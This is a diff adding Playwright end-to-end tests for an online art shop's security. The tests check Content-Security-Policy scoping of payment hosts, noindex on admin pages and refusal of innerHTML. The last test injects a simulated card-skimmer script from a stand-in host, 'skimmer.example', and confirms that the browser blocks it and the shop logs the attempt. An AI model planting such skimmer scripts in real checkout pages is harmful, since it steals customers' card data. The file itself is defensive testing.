@@ -1,0 +1,206 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { cardOf, findWork, putIntoCart } from '#test/support/journeys/artworks.ts';
+import { payButton } from '#test/support/journeys/card-form.ts';
+import { expect, testWithOwnShop } from '#test/support/journeys/journey.ts';
+import { sellingShop } from '#test/support/journeys/own-shop.ts';
+
+/** What the document of a page may load, and what the shop learns when a browser refuses something. */
+const test = testWithOwnShop(sellingShop);
+
+const bar = (page: Page) => page.getByRole('navigation', { name: 'Main' });
+const cartLink = (page: Page) => bar(page).getByRole('link', { name: /^Cart/ });
+
+/** A name that a document keeps, and the next one does not have. */
+const mark = (page: Page) => page.evaluate(() => Object.assign(window, { isMarked: true }));
+const isMarked = (page: Page) => page.evaluate(() => 'isMarked' in window);
+
+/** Whether the document would load a script from an origin; asks none for it. */
+async function mayLoad(page: Page, origin: string): Promise<boolean> {
+  await page.route(`${origin}/nothing.js`, (route) =>
+    route.fulfill({ body: '', contentType: 'text/javascript' }),
+  );
+  return page.evaluate(
+    (src) =>
+      new Promise<boolean>((resolve) => {
+        const script = Object.assign(document.createElement('script'), {
+          onload: () => resolve(true),
+          onerror: () => resolve(false),
+        });
+        script.src = src;
+        document.head.append(script);
+      }),
+    `${origin}/nothing.js`,
+  );
+}
+
+const policyOf = async (page: Page, path: string) =>
+  (await page.request.get(path)).headers()['content-security-policy'] ?? '';
+
+test.describe('the hosts of the card form', { tag: ['@desktop', '@phone-long'] }, () => {
+  // A browser says in its console what it refuses.
+  test.use({ provokesFailures: true });
+
+  test('are in the cart’s document alone, however one comes there and leaves', async ({
+    page,
+    baseURL,
+    shop,
+  }) => {
+    const work = await findWork(baseURL, 'Fish Weather', 'Fine Art Prints');
+    await putIntoCart(page, work.id, work.variations[0]?.id ?? '');
+    for (const path of [
+      '/',
+      '/gallery',
+      `/artwork/${work.id}`,
+      '/about',
+      '/order-complete',
+      '/admin',
+      '/orderadmin',
+      '/nowhere',
+    ])
+      expect(await policyOf(page, path), path).not.toContain(shop.twinUrl);
+    for (const path of ['/cart', '/cart/']) expect(await policyOf(page, path), path).toContain(shop.twinUrl);
+
+    await page.goto('/about');
+    await mark(page);
+    await cartLink(page).click();
+    await expect(page.getByRole('button', { name: 'Proceed to Checkout' })).toBeVisible();
+    expect(await isMarked(page)).toBe(false);
+    expect(await mayLoad(page, shop.twinUrl)).toBe(true);
+
+    await mark(page);
+    await bar(page).getByRole('link', { name: 'Gallery' }).click();
+    await expect(page.getByRole('heading', { name: 'Gallery', level: 1 })).toBeVisible();
+    expect(await isMarked(page)).toBe(false);
+
+    await page.goBack();
+    await page.getByRole('button', { name: 'Proceed to Checkout' }).click();
+    await payButton(page);
+  });
+
+  test('are in the cart’s document at an address that the CDN does not know for the cart’s', async ({
+    page,
+    baseURL,
+    shop,
+  }) => {
+    const work = await findWork(baseURL, 'Fish Weather', 'Fine Art Prints');
+    await putIntoCart(page, work.id, work.variations[0]?.id ?? '');
+
+    await page.goto('/CART');
+    await expect(page).toHaveURL(/\/cart$/);
+    await page.getByRole('button', { name: 'Proceed to Checkout' }).click();
+    await payButton(page);
+    expect(await mayLoad(page, shop.twinUrl)).toBe(true);
+  });
+
+  test('never are in a document of the studio’s, though one comes back to it from the cart', async ({
+    page,
+  }) => {
+    await page.goto('/admin');
+    await expect(page.getByLabel('Username')).toBeVisible();
+    await cartLink(page).click();
+    await expect(page.getByText('Your cart is empty')).toBeVisible();
+    await mark(page);
+
+    await page.goBack();
+
+    await expect(page.getByLabel('Username')).toBeVisible();
+    expect(await isMarked(page)).toBe(false);
+  });
+});
+
+test('no page of the studio’s is for search engines', { tag: ['@desktop'] }, async ({ page }) => {
+  for (const path of ['/admin', '/admin/activity', '/orderadmin', '/account', '/nowhere']) {
+    await page.goto(path);
+    await expect(page.locator('meta[name="robots"]'), path).toHaveAttribute('content', 'noindex');
+  }
+});
+
+test.describe('a new document on the way', { tag: ['@desktop', '@phone-long'] }, () => {
+  test('waits for what is being put into the cart', async ({ page }) => {
+    await page.goto('/gallery');
+    const add = cardOf(page, 'Fish Weather').first().getByRole('button', { name: 'Add to Cart' });
+    let goOn: () => void = () => undefined;
+    const pressed = new Promise<void>((resolve) => {
+      goOn = resolve;
+    });
+    await page.route('**/api/cart', async (route) => {
+      if (route.request().method() === 'POST') await pressed;
+      await route.continue();
+    });
+    await add.click();
+    await cartLink(page).click();
+    await expect(page).toHaveURL(/\/cart$/);
+    goOn();
+
+    await expect(page.getByRole('button', { name: 'Proceed to Checkout' })).toBeVisible();
+    await expect(page.getByRole('main').getByText('Fish Weather').first()).toBeVisible();
+  });
+
+  test('leaves the gallery where it was for whoever comes back from the cart', async ({ page }) => {
+    await page.goto('/gallery');
+    await page.getByRole('article').nth(11).scrollIntoViewIfNeeded();
+    await page.evaluate(() => window.scrollTo({ top: 900, behavior: 'instant' }));
+    await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(800);
+    const before = await page.evaluate(() => window.scrollY);
+    await cartLink(page).click();
+    await expect(page.getByText('Your cart is empty')).toBeVisible();
+
+    await page.goBack();
+
+    await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(before);
+  });
+});
+
+test.describe('text that is made into markup', { tag: ['@desktop', '@phone-long'] }, () => {
+  const becomesMarkup = (page: Page) =>
+    page.evaluate(() => {
+      try {
+        document.createElement('p').innerHTML = '<b>bold</b>';
+        return true;
+      } catch {
+        return false;
+      }
+    });
+  test.use({ provokesFailures: true });
+
+  test('is refused on every page but the cart’s, where Square’s script runs', async ({ page }) => {
+    for (const path of ['/', '/gallery', '/about', '/admin', '/order']) {
+      await page.goto(path);
+      expect(await becomesMarkup(page), path).toBe(false);
+    }
+    await page.goto('/cart');
+    expect(await becomesMarkup(page)).toBe(true);
+  });
+});
+
+test.describe('a script that is planted where a card is entered', { tag: ['@desktop'] }, () => {
+  test.use({
+    provokesFailures: true,
+    otherOrigins: ({ shop }, use) => use([shop.twinUrl, shop.bankUrl, 'https://skimmer.example']),
+  });
+
+  test('is refused by the browser, which tells the shop, which counts it for the alarm', async ({
+    page,
+    shop,
+  }) => {
+    const log = () =>
+      readFileSync(join(shop.dataDirectory, 'shop.log'), 'utf8')
+        .split('\n')
+        .filter((line) => line !== '')
+        .map((line) => JSON.parse(line));
+    const before = log().filter((line) => 'CheckoutScriptRefused' in line).length;
+    await page.goto('/cart?utm=ada%40example.com');
+    await page.evaluate(() => {
+      document.head.append(
+        Object.assign(document.createElement('script'), { src: 'https://skimmer.example/card.js?to=ada' }),
+      );
+    });
+
+    const sample = () => log().find(({ blocked }) => blocked === 'skimmer.example');
+    await expect.poll(sample).toMatchObject({ code: 'script-src-elem', path: '/cart', state: 'refused' });
+    expect(JSON.stringify(sample())).not.toContain('ada');
+    expect(log().filter((line) => 'CheckoutScriptRefused' in line).length).toBe(before + 1);
+  });
+});
